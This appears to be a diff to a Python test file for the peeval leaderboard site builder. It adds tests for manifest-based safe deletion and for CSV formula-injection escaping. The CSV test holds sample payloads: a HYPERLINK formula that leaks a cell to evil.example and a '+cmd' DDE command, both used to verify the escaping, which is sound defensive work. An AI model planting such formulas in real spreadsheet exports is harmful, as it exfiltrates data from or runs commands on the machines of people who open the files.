@@ -191,15 +191,75 @@ def test_out_that_is_a_site_or_empty_is_rebuilt(tmp_path):
     db = make_store(tmp_path / "store")
     (tmp_path / "empty").mkdir()
     index = build_site(db, tmp_path / "empty")
-    assert (index.parent / MARKER).is_file()
+    manifest = json.loads((index.parent / MARKER).read_text())
+    on_disk = sorted(p.relative_to(index.parent).as_posix() for p in index.parent.rglob("*") if p.is_file())
+    assert manifest["files"] == on_disk  # the manifest lists every file of the build, itself included
+    # a page a previous build wrote (in its manifest) of a run no longer in the store: replaced whole, gone
     (index.parent / "runs" / "stale-run.html").write_text("a page of a run no longer in the store")
-    index = build_site(db, index.parent)  # our own folder (marker): replaced whole, stale page gone
+    manifest["files"].append("runs/stale-run.html")
+    (index.parent / MARKER).write_text(json.dumps(manifest))
+    index = build_site(db, index.parent)
     assert not (index.parent / "runs" / "stale-run.html").exists()
-    legacy = tmp_path / "legacy"  # a site built before the marker: index.html + assets
+    legacy = tmp_path / "legacy"  # a site built before the manifest: its files, a stale run page among them
     shutil.copytree(index.parent, legacy)
-    (legacy / MARKER).unlink()
-    (legacy / "runs" / "old.html").write_text("old")
-    assert build_site(db, legacy).is_file() and not (legacy / "runs" / "old.html").exists()
+    (legacy / MARKER).write_text("A static site written by peeval's leaderboard.site: rebuilt whole on every build.\n")
+    (legacy / "runs" / "0123456789abcdef.html").write_text("old")
+    assert build_site(db, legacy).is_file() and not (legacy / "runs" / "0123456789abcdef.html").exists()
+
+
+def test_out_with_a_sites_files_beside_the_users_is_refused_and_kept(tmp_path, capsys):
+    """Issue 42 item 5: a folder holding index.html + assets/site.css + assets/site.js (what every old site had)
+    beside the user's own files (their store, notes) was taken for a site and replaced whole, every file of it
+    deleted, exit 0. Now the site deletes only files it wrote: such a folder is refused and every file stays;
+    so is a built site (with its manifest) into which the user put a file of their own."""
+    from leaderboard.site import main
+
+    db = make_store(tmp_path / "store")
+    mine = tmp_path / "mine"
+    (mine / "assets").mkdir(parents=True)
+    for f in ("index.html", "assets/site.css", "assets/site.js"):
+        (mine / f).write_text("an old page")
+    shutil.copy(db, mine / "peeval.duckdb")
+    (mine / "notes.txt").write_text("my notes")
+    before = {p.relative_to(mine).as_posix(): p.read_bytes() for p in mine.rglob("*") if p.is_file()}
+    assert main(["--db", str(db), "--out", str(mine)]) == 2
+    err = capsys.readouterr().err.strip().splitlines()
+    assert len(err) == 1 and "--out" in err[0] and "peeval.duckdb" in err[0], err
+    assert {p.relative_to(mine).as_posix(): p.read_bytes() for p in mine.rglob("*") if p.is_file()} == before
+
+    built = build_site(db, tmp_path / "built").parent
+    (built / "data" / "my-analysis.csv").write_text("a,b\n")
+    assert main(["--db", str(db), "--out", str(built)]) == 2
+    assert "my-analysis.csv" in capsys.readouterr().err
+    assert (built / "data" / "my-analysis.csv").read_text() == "a,b\n"
+
+
+def test_csv_downloads_never_hold_a_formula(tmp_path):
+    """Issue 42 item 3: a model named ``=HYPERLINK(...)`` (an external lm-eval run's name is the model's) was
+    written raw into data/runs.csv, a formula a spreadsheet runs. Every text cell starting with =, +, -, @, a tab
+    or a carriage return is written with a leading ' (the text kept); numbers are written as they are."""
+    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    texts = [evil, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+    root = tmp_path / "r"
+    for i, model in enumerate(texts):
+        d = root / f"run{i}"
+        d.mkdir(parents=True)
+        prov = {"model": model, "model_args": {}, "checkpoint": None, "date": "2026-11-22T10:00:00+00:00",
+                "seed": i}  # fmt: skip
+        (d / "results.json").write_text(json.dumps({"results": {"arc_easy": {"acc,none": 0.25 + i / 100,
+                                                    "acc_stderr,none": 0.01}}, "peeval": prov}))  # fmt: skip
+    db = tmp_path / "s.duckdb"
+    ingest([root], db, root=tmp_path)
+    site = build_site(db, tmp_path / "site").parent
+    names = set()
+    for f in (site / "data").glob("*.csv"):
+        for row in csv.reader(f.open(newline="", encoding="utf-8")):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (f.name, cell)
+                names.add(cell)
+    assert {"'" + t for t in texts} <= names  # each name kept, as text
+    runs = json.loads((site / "data" / "runs.json").read_text())
+    assert sorted(r["name"] for r in runs) == sorted(texts)  # the JSON download holds the names as they are
 
 
 def test_failed_site_build_leaves_no_temporary_folder(tmp_path, monkeypatch):
